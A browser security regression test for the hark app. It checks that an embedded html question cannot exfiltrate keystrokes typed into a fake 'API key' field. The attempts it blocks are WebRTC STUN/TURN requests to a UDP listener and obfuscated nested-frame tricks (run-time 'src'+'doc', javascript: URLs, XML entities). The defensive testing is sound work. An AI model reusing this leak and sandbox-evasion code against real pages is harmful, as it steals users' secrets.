import { afterAll, beforeAll, expect, test } from 'bun:test'
import dgram from 'node:dgram'
import { rmSync } from 'node:fs'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { requireBinary, type Served, startServe } from '../binary/process.ts'
import { startTestServer, tempDir } from '../harness.ts'
import { launchBrowser } from './harness.ts'

/**
 * Issue 31, item 1: an html question reached the network through WebRTC, which no CSP governs.
 * `new RTCPeerConnection({ iceServers: [{ urls: 'turn:…', username: 'typed:' + input.value }] })`
 * on each keystroke sent what the person typed to a UDP listener while the question stayed
 * open. Here, against dist/hark in Chromium: a real UDP listener on loopback, an html question
 * that tries it on load and on every input event, in its own frame and through every nested
 * frame that could run code of its own (srcdoc as a property, as markup, in its own page, an XML
 * entity that spells the name; a javascript: URL). Nothing may arrive. The same attempt made by
 * the app's page itself (outside the embed) does arrive: the listener, the browser and the wait
 * are able to see a packet, so "none arrived" means something.
 */
const dir = tempDir('hark-web-webrtc-')
let served: Served
let base = ''
let cookie = ''
let agentToken = ''
let channelId = ''
let browser: Browser
let closeBrowser: () => Promise<void>
let context: BrowserContext

interface Listener {
  port: number
  packets: Buffer[]
  /** Resolves at the first packet. */
  first: Promise<void>
  close(): void
}

/** A UDP socket on 127.0.0.1 that keeps every datagram it receives, as text. */
async function udpListener(): Promise<Listener> {
  const socket = dgram.createSocket('udp4')
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', () => resolve()))
  const packets: Buffer[] = []
  let arrived = () => {}
  const first = new Promise<void>((resolve) => {
    arrived = resolve
  })
  socket.on('message', (data) => {
    packets.push(data)
    arrived()
  })
  return { port: socket.address().port, packets, first, close: () => socket.close() }
}

let frameLeak: Listener
let nestedLeak: Listener
let control: Listener

/** A free loopback port, so that the base URL can name it before the server starts. */
function freePort(): number {
  const listener = Bun.listen({ hostname: '127.0.0.1', port: 0, socket: { data() {} } })
  const free = listener.port
  listener.stop(true)
  return free
}

beforeAll(async () => {
  requireBinary()
  const seed = await startTestServer({ dataDir: dir, label: 'Key bot' })
  cookie = (await seed.session(undefined, 'playwright')).cookie
  agentToken = seed.agentToken
  channelId = seed.channelId
  await seed.stop()
  const port = freePort()
  base = `http://localhost:${port}`
  served = await startServe(['--data', dir, '--port', String(port), '--base-url', base])
  ;[frameLeak, nestedLeak, control] = await Promise.all([
    udpListener(),
    udpListener(),
    udpListener(),
  ])
  ;({ browser, close: closeBrowser } = await launchBrowser())
  context = await browser.newContext()
  const [name, value] = cookie.split('=') as [string, string]
  await context.addCookies([{ name, value, url: base, httpOnly: true, sameSite: 'Strict' }])
}, 60_000)
afterAll(async () => {
  await context?.close()
  await closeBrowser?.()
  served?.proc.kill('SIGKILL')
  for (const l of [frameLeak, nestedLeak, control]) l?.close()
  rmSync(dir, { recursive: true, force: true })
})

/**
 * The script of a leak to `port`: a peer connection with a stun: and a turn: server there
 * (the TURN username carrying `username`), gathering at once. Returns how it went.
 */
const leakCode = (port: number) => `(username) => {
  try {
    const Peer = window.RTCPeerConnection || window.webkitRTCPeerConnection
    const pc = new Peer({ iceServers: [
      { urls: 'stun:127.0.0.1:${port}' },
      { urls: 'turn:127.0.0.1:${port}?transport=udp', username, credential: 'x' },
    ] })
    pc.createDataChannel('x')
    pc.createOffer().then((offer) => pc.setLocalDescription(offer))
    return 'sent'
  } catch (error) {
    return 'refused: ' + error.name
  }
}`

/** A JavaScript string literal of `text` that is safe inside an inline <script>. */
const literal = (text: string) => JSON.stringify(text).replace(/</g, '\\u003c')

/**
 * The html question. The word the host neutralises never appears as such: the attacker spells
 * it at run time ('src' + 'doc'), or with an XML character reference.
 */
function questionHtml(): string {
  // What a nested frame runs: the leak, then it says so (it never may).
  const child = `<script>parent.postMessage({ probe: 'nested-ran' }, '*'); top.postMessage({ probe: 'nested-ran' }, '*'); (${leakCode(nestedLeak.port)})('nested')</script>`
  const xmlEscaped = child
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&apos;')
    .replace(/%/g, '&#37;')
  return `<label>API key <input id="secret" autocomplete="off"></label>
<iframe id="static" ${'src'}${'doc'}="${child.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe>
<script>
  const say = (probe) => parent.postMessage({ probe }, '*')
  const leak = ${leakCode(frameLeak.port)}
  const CHILD = ${literal(child)}
  const SD = 'src' + 'doc'
  const nested = (how, make) => {
    try { make(); say('nested ' + how + ': made') } catch (error) { say('nested ' + how + ': refused') }
  }
  nested('property', () => {
    const f = document.createElement('iframe'); f[SD] = CHILD; document.body.append(f)
  })
  nested('attribute', () => {
    const f = document.createElement('iframe'); f.setAttribute(SD, CHILD); document.body.append(f)
  })
  nested('markup', () => {
    document.body.insertAdjacentHTML('beforeend', '<iframe ' + SD + '="' + CHILD.replace(/&/g, '&amp;').replace(/"/g, '&quot;') + '"></iframe>')
  })
  nested('javascript url', () => {
    const f = document.createElement('iframe'); f.src = 'javascript:' + JSON.stringify(CHILD); document.body.append(f)
  })
  nested('xml entity', () => {
    const xml = '<!DOCTYPE div [<!' + 'ENTITY e "<iframe src&#x64;oc=\\'' + ${literal(xmlEscaped)} + '\\'/>">]><div xmlns="http://www.w3.org/1999/xhtml">&e;</div>'
    const parsed = new DOMParser().parseFromString(xml, 'application/xhtml+xml')
    document.body.append(document.importNode(parsed.documentElement, true))
  })
  say('xslt: ' + typeof window['XSLT' + 'Processor'])
  say('load: ' + leak('typed:'))
  document.getElementById('secret').addEventListener('input', (event) => {
    say('input: ' + leak('typed:' + event.target.value))
  })
</script>`
}

async function openThread(): Promise<Page> {
  const page = await context.newPage()
  await page.goto(`${base}/c/${channelId}`)
  await page.locator('.messages-inner').waitFor()
  await page.evaluate(() => {
    const w = window as unknown as { probes: string[] }
    w.probes = []
    window.addEventListener('message', (e) => {
      if (e.data && typeof e.data === 'object' && 'probe' in e.data) w.probes.push(e.data.probe)
    })
  })
  return page
}

const probes = (page: Page) =>
  page.evaluate(() => (window as unknown as { probes: string[] }).probes)

test('GET /embed: an html question reaches no UDP listener through WebRTC, typing or not, nested frames included', async () => {
  const page = await openThread()
  const sent = await fetch(`${base}/v1/messages`, {
    method: 'POST',
    headers: { authorization: `Bearer ${agentToken}`, 'content-type': 'application/json' },
    body: JSON.stringify({
      body: {
        title: 'Your API key?',
        blocks: [{ type: 'html', id: 'key', question: true, html: questionHtml() }],
      },
    }),
  })
  expect(sent.status).toBe(200)
  const { message } = (await sent.json()) as { message: { id: string } }
  const input = page.frameLocator(`article[data-id="${message.id}"] iframe`).locator('#secret')
  await input.waitFor()
  // The page's attempts ran: on load, and once per key typed.
  await page.waitForFunction(() =>
    (window as unknown as { probes: string[] }).probes.some((p) => p.startsWith('load: ')),
  )
  await input.click()
  await input.pressSequentially('sk-live-123')
  await page.waitForFunction(
    () =>
      (window as unknown as { probes: string[] }).probes.filter((p) => p.startsWith('input: '))
        .length === 11,
  )
  // The control: the same code in the app's own page (no sandbox, no host script) is heard.
  const controlRan = await page.evaluate(`(${leakCode(control.port)})('control')`)
  expect(controlRan).toBe('sent')
  await control.first
  // The embed's attempts were made before the control's, which has arrived; a little longer
  // for any straggler.
  await Bun.sleep(1500)
  const seen = await probes(page)
  expect({ frame: frameLeak.packets.length, nested: nestedLeak.packets.length }).toEqual({
    frame: 0,
    nested: 0,
  })
  expect(seen).not.toContain('nested-ran')
  expect(seen.filter((p) => p.startsWith('nested '))).toEqual([
    'nested property: refused',
    'nested attribute: refused',
    // These are made, and cannot run: a javascript: URL in a nested frame is refused there,
    // and markup or XML loses the frame's srcdoc.
    'nested markup: made',
    'nested javascript url: made',
    'nested xml entity: made',
  ])
  expect(seen).toContain('xslt: undefined')
  expect(seen.filter((p) => p.startsWith('load: ') || p.startsWith('input: '))).toEqual([
    'load: refused: TypeError',
    ...Array.from({ length: 11 }, () => 'input: refused: TypeError'),
  ])
  await page.close()
}, 60_000)
